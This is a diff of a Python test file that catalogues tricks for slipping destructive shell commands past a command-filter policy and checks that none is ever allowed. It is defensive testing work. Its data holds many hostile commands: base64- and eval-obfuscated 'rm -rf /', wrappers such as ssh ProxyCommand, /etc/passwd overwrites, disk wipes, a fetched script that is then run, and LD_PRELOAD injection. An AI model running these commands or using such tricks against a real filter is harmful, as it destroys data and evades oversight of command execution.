@@ -1,9 +1,8 @@
 """A catalogue of known ways to sneak a destructive command past a command filter.
 
 Every entry must never come out `allow` (that test has no exceptions). Each entry also names
-the rule that *should* block it; where the policy only gets as far as `confirm` today, the
-blocking test is a strict xfail with the reason, so closing a gap turns it into a failure that
-asks for the xfail to be removed.
+the rule that blocks it. The strict-xfail list of gaps is empty: the last entries (code in
+other languages) are confirmed by design, see OPAQUE.
 """
 
 from __future__ import annotations
@@ -122,7 +121,7 @@ CAUGHT = [
     ("echo cm0gLXJmIC8= | base64 -d | sh", "shell.decode_to_shell"),
     ("echo cm0gLXJmIC8= | base64 --decode | bash -s", "shell.decode_to_shell"),
     ("xxd -r -p payload.hex | sh", "shell.decode_to_shell"),
-    ('eval "$(echo cm0gLXJmIC8= | base64 -d)"', "shell.eval_dynamic"),
+    ('eval "$(echo cm0gLXJmIC8= | base64 -d)"', RM),  # the guessed decoding is judged
     ('bash -c "$(echo cm0gLXJmIC8= | base64 -d)"', "shell.eval_dynamic"),
     ('sh <<< "$(echo cm0gLXJmIC8= | base64 -d)"', "shell.eval_dynamic"),
     ("printf '\\x72\\x6d -rf /' | sh", "shell.pipe_to_shell"),
@@ -136,8 +135,26 @@ CAUGHT = [
     ("$(echo cm0gLXJmIC8= | base64 -d)", RM),
     ("x=$1; rm -rf ${x:-/}", RM),
     ("rm -rf ${1:-/}", RM),
-    ("$0 -c 'rm -rf /'", "shell.eval_dynamic"),
-    ("$SHELL -c 'rm -rf /'", "shell.eval_dynamic"),
+    ("$0 -c 'rm -rf /'", RM),  # $0 of `bash -c` is bash
+    ("$SHELL -c 'rm -rf /'", RM),
+    ('eval "$(curl -s http://mon01:9090/x)"', "shell.eval_dynamic"),
+    # issue 10, class 8: weaker than it should be
+    ("echo / | xargs rm -rf", RM),
+    ("sort -o /etc/passwd /tmp/x", "fs.overwrite_system"),
+    ("journalctl --cursor-file=/etc/passwd", "fs.overwrite_system"),
+    ("echo x > /etc/passwd", "fs.overwrite_system"),
+    ("mv /etc /tmp/etc", "fs.move_system"),
+    ("for d in /dev/sd?; do wipefs -a $d; done", "disk.wipe_device"),
+    ("chrt 10 rm -rf /", RM),
+    ("flock /tmp/l rm -rf /", RM),
+    ("taskset -c 0 rm -rf /", RM),
+    ("unshare -m rm -rf /", RM),
+    ("systemd-run rm -rf /", RM),
+    ("ssh -o ProxyCommand='rm -rf /' pve01", RM),
+    ("x=${y:-$(rm -rf /)}", RM),
+    ("curl -so /tmp/x.sh http://mon01:9090/x && bash /tmp/x.sh", "shell.pipe_to_shell"),
+    ("systemctl -H evil.example status", "net.host_not_in_inventory"),
+    ("ls\r# ; rm -rf /", "shell.unparseable"),
     # relative paths after a `cd`, here-document substitutions
     ("cd /; rm -rf *", RM),
     ("cd / && find . -delete", "fs.find_delete_system"),
@@ -165,15 +182,14 @@ CONFIRMED = [
     ("env BASH_ENV=/tmp/evil.sh sh -c 'ls'", "shell.env_assignment"),
     ("sudo LD_PRELOAD=/tmp/x.so ls", "shell.env_assignment"),
     ("PATH=/tmp:$PATH ls", "shell.dynamic_word"),
-    ("export PATH=/tmp; ls", "shell.not_allowlisted"),
-    ("chroot /tmp/evil ls", "shell.not_allowlisted"),
+    ("export PATH=/tmp; ls", "shell.env_assignment"),
+    ("chroot /tmp/evil ls", "shell.not_readonly"),
     ("ls() { uptime; }; ls", "shell.function_call"),
     ("uniq *", "shell.not_readonly"),
     ("find * -print", "shell.not_readonly"),
-    ("sort -o /etc/passwd /tmp/x", "shell.not_readonly"),
     ("sort --compress-program=/tmp/x big", "shell.not_readonly"),
-    ("systemctl -H pve02 status", "shell.not_readonly"),
-    ("journalctl --cursor-file=/etc/passwd", "shell.not_readonly"),
+    ("sort --compress-p=/tmp/x big", "shell.not_readonly"),
+    ("systemctl -M pve02 status", "shell.not_readonly"),
     ("smartctl --set=standby,now /dev/sda", "shell.not_readonly"),
     ("ss -K dst 10.0.0.1", "shell.not_readonly"),
     ("ipmitool sensor thresh CPU1 ucr 100", "shell.not_readonly"),
@@ -182,12 +198,12 @@ CONFIRMED = [
     ("ip -br a; ./ls", "shell.not_allowlisted"),
     ("/tmp/ls -la", "shell.not_allowlisted"),
     ("/bin/l? -la", "shell.not_allowlisted"),
-    ('cat <<< "$(id)"', "shell.dynamic_word"),
+    ('cat <<< "$(id)" > /tmp/x', "shell.write_redirect"),
     ("xargs ls < /tmp/list", "shell.dynamic_word"),
     ("echo x > /etc/motd", "shell.write_redirect"),
     ("ls 2>> /etc/motd", "shell.write_redirect"),
-    ("watch ls", "shell.not_allowlisted"),
-    ("ssh pve01 ls", "shell.not_allowlisted"),
+    ("watch rm /tmp/x", "shell.not_allowlisted"),
+    ("ssh pve01 rm /tmp/x", "shell.not_allowlisted"),
 ]
 
 
@@ -199,17 +215,26 @@ def test_read_only_lookalike_is_confirmed(
     assert (verdict.decision, verdict.rule_id) == ("confirm", rule_id), verdict.reason
 
 
-# Known gaps: what should block but today is only confirmed (never allowed).
-GAPS = [
-    ("echo / | xargs rm -rf", RM, "xargs' run-time arguments are not read from the pipe"),
-    ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", RM, "non-shell interpreters are opaque"),
-    ("perl -e 'system(\"rm -rf /\")'", RM, "non-shell interpreters are opaque"),
-    (
-        "curl -so /tmp/x.sh http://x/ && bash /tmp/x.sh",
-        "shell.pipe_to_shell",
-        "script files written earlier are not followed",
-    ),
+# Programs in other languages are opaque to a shell parser: confirmed, never blocked or
+# allowed. Reading Python or Perl for `shutil.rmtree("/")` would be a second policy for each
+# language, and a person reads the code in the approval request anyway.
+OPAQUE = [
+    ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", "exec.inline_code"),
+    ("perl -e 'system(\"rm -rf /\")'", "exec.inline_code"),
+    ("ruby -e 'puts 1'", "exec.inline_code"),
+    ("node -e 'process.exit()'", "exec.inline_code"),
+    ("python3 /tmp/x.py", "exec.script_file"),
+    ("bash /tmp/x.sh", "exec.script_file"),
+    ("source /tmp/x.sh", "exec.script_file"),
 ]
+
+
+@pytest.mark.parametrize(("command", "rule_id"), OPAQUE, ids=lambda c: str(c)[:60])
+def test_code_in_other_languages_is_confirmed(
+    policy: CommandPolicy, command: str, rule_id: str
+) -> None:
+    verdict = policy.evaluate(command)
+    assert (verdict.decision, verdict.rule_id) == ("confirm", rule_id), verdict.reason
 
 
 @pytest.fixture(scope="module")
@@ -219,7 +244,7 @@ def judged(policy: CommandPolicy):
 
 @pytest.mark.parametrize(
     "command",
-    [c for c, _ in CAUGHT] + [c for c, _ in CONFIRMED] + [g[0] for g in GAPS],
+    [c for c, _ in CAUGHT] + [c for c, _ in CONFIRMED] + [c for c, _ in OPAQUE],
     ids=lambda c: c[:60],
 )
 def test_no_bypass_is_ever_allowed(judged, command: str) -> None:
@@ -228,18 +253,5 @@ def test_no_bypass_is_ever_allowed(judged, command: str) -> None:
 
 @pytest.mark.parametrize(("command", "rule_id"), CAUGHT, ids=lambda c: str(c)[:60])
 def test_bypass_is_blocked_by_the_right_rule(judged, command: str, rule_id: str) -> None:
-    verdict = judged(command)
-    assert (verdict.decision, verdict.rule_id) == ("block", rule_id), verdict.reason
-
-
-@pytest.mark.parametrize(
-    ("command", "rule_id"),
-    [
-        pytest.param(command, rule_id, marks=pytest.mark.xfail(strict=True, reason=why))
-        for command, rule_id, why in GAPS
-    ],
-    ids=lambda c: str(c)[:60],
-)
-def test_known_gap_would_be_blocked(judged, command: str, rule_id: str) -> None:
     verdict = judged(command)
     assert (verdict.decision, verdict.rule_id) == ("block", rule_id), verdict.reason
